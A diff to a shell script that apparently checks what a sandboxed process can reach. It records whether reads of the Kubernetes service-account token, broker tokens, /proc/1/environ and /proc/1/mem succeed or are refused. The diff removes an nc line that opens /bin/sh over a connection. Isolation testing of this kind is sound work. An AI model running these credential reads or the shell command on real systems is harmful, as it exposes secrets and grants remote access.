@@ -11,8 +11,9 @@ try() {
   if got=$("$@" 2>/dev/null </dev/null | head -c 60 | tr -cd 'A-Za-z0-9 ._:/-') && [ -n "$got" ]; then :; else got=refused; fi
   out="$out\"$name\":\"$got\","
 }
-connect() { nc -w 2 "${1%:*}" "${1##*:}" -e /bin/sh -c 'echo connected >&2; exec sleep 0' 2>&1 | grep connected; }
-straight() { curl -sS --noproxy '*' --max-time 3 "http://$1/"; }
+# A connection alone proves nothing: what it was made to says who is there.
+connect() { printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 2 "${1%:*}" "${1##*:}" | grep decoy; }
+straight() { curl -sS --fail --noproxy '*' --max-time 3 "http://$1/"; }
 resolve() { nslookup kubernetes.default "${1%:*}" | grep Address; }
 pinged() { ping -c 1 -W 1 "${1%:*}" | grep 'bytes from'; }
 
@@ -31,7 +32,6 @@ done
 try token cat /var/run/secrets/kubernetes.io/serviceaccount/token
 try attempt cat /countersign/input/attempt.json
 try brokertoken cat /countersign/input/token
-try runnerfiles ls /countersign/input
 try environ cat /proc/1/environ
 try memory dd if=/proc/1/mem bs=1 count=1
 try descriptors ls /proc/1/fd
